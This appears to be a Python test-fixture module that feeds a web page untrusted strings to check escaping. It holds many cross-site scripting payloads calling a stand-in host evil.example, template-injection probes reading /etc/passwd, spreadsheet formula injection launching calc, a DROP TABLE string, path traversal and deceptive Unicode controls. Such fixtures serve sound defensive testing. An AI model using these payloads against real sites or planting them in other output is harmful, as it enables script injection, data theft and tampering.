"""Texts that have broken pages elsewhere, each of which sets `window.hacked` or asks elsewhere if it can."""

ELSEWHERE = "https://evil.example"
DO = f"window.hacked=1,alert(1),fetch('{ELSEWHERE}')"
MARKUP = [
    f"<script>{DO}</script>",
    f"<ScRiPt>{DO}</sCrIpT >",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<script\x0bsrc={ELSEWHERE}/x.js></script>",
    f"<<script>{DO}//<</script>",
    f"</script><script>{DO}</script>",
    f"</title><script>{DO}</script>",
    f"</textarea><script>{DO}</script>",
    f"</style><script>{DO}</script>",
    f"</noscript><script>{DO}</script>",
    f"</main></body></html><script>{DO}</script>",
    f"</select><option selected>x</option><script>{DO}</script>",
    f"-->{DO}<!--<script>{DO}</script>",
    f"<![CDATA[<script>{DO}</script>]]>",
    f"<?xml version='1.0'?><script>{DO}</script>",
    f'"><img src=x onerror="{DO}">',
    f"'><img src=x onerror='{DO}'>",
    f"<img src={ELSEWHERE}/pixel.png>",
    f"<img src=x onerror={DO}//",
    f"<svg onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><use href={ELSEWHERE}/x.svg#x></use></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<math><mi//xlink:href='data:x,<script>{DO}</script>'>",
    f"<body onload={DO}>",
    f'<iframe src="javascript:{DO}"></iframe>',
    f"<iframe srcdoc='<script>parent.{DO}</script>'></iframe>",
    f"<object data={ELSEWHERE}></object><embed src={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<style>@import '{ELSEWHERE}/x.css'; * {{ display: none }}</style>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}><button name=degree value=2>A better</button></form>",
    f"<details open ontoggle={DO}>x</details>",
    f"<input autofocus onfocus={DO}>",
    f"<video><source onerror={DO}></video><audio src={ELSEWHERE}/x.mp3>",
    f'<a href="javascript:{DO}">A much better</a>',
    f"<div style='position:fixed;inset:0;z-index:99;background:url({ELSEWHERE})'>covered</div>",
    f"<template shadowrootmode=open><script>{DO}</script></template>",
    "<plaintext>",
    "<dialog open id=dialog data-close>A</dialog>",
    "<h1 id=heading>Pair 1 of 1</h1><input name=key value=x><input name=csrf>",
]
TEMPLATES = [
    "{{ 7 * 7 }}{% for x in y %}{# z #}",
    "{{ request.app.state.settings }}",
    "{% include '/etc/passwd' %}",
    "${7*7} #{7*7} <%= 7*7 %> %(x)s {0} {x.__class__}",
    "&lt;b&gt; &amp;amp; &#60;script&#62; &quot; &nbsp; &",
    "\\u003cscript\\u003e \\x3cscript\\x3e %3Cscript%3E",
]
MARKS = [
    "\u202egnp.exe",
    "\u2067\u2066\u202bnested\u2069\u202c",
    "\u200f\u200e\u061cabc \u05e9\u05dc\u05d5\u05dd 123 \u0627\u0644\u0633\u0644\u0627\u0645",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff\xadg",
    "\0nul\0 in the middle\0",
    "\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x7f\x85\x9b",
    "line\nline\r\nline\rline\u2028line\u2029end\n\n\n",
    "\n\nstarts with line ends\ttab ",
    "\U000e0041\U000e0042 tags, \ufe00\ufe01 selectors, \ue000 private, \uffff none",
    "Z\u0351\u0301" + "\u0300" * 100 + "algo",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea 1\ufe0f\u20e3",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "half of a pair \ud83d and another \udc00",
    "   ",
]
SHEETS = [
    '=HYPERLINK("https://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)*cmd|'/C calc'!A0",
    "-2+3\t=1",
    "'; DROP TABLE judgement; --",
    "../../etc/passwd\\..\\x",
]
LONG = ["W" * 200_000, "\u202e<b>" * 500]
STRINGS = [*MARKUP, *TEMPLATES, *MARKS, *SHEETS, *LONG]
ALONE = [x for x in MARKS if x != x.strip()]
TOGETHER = [x for x in STRINGS if x not in (*ALONE, *LONG)]
TEXTS = [*("\n\n".join(TOGETHER[n::7]) for n in range(7)), *ALONE, *LONG]
"""All strings in fewer texts: a page that lets one string through shows another text than was stored."""
GUIDELINES = f"""
# <script>{DO}</script>

[a](javascript:{DO}) [b](JAVASCRIPT:{DO}) [c](data:text/html,<script>{DO}</script>) [d](vbscript:x)
[e](//evil.example/x) [f](java&Tab;script:{DO}) <javascript:{DO}> [h][ref] [i](&#106;avascript:{DO})
![pixel]({ELSEWHERE}/pixel.png) <img src=x onerror={DO}> <a href="javascript:{DO}">k</a>

[good](https://example.org)

[ref]: javascript:{DO}

| <svg onload={DO}> | \u202e |
|---|---|
| `<b>` | {{{{ 7 * 7 }}}} |
"""
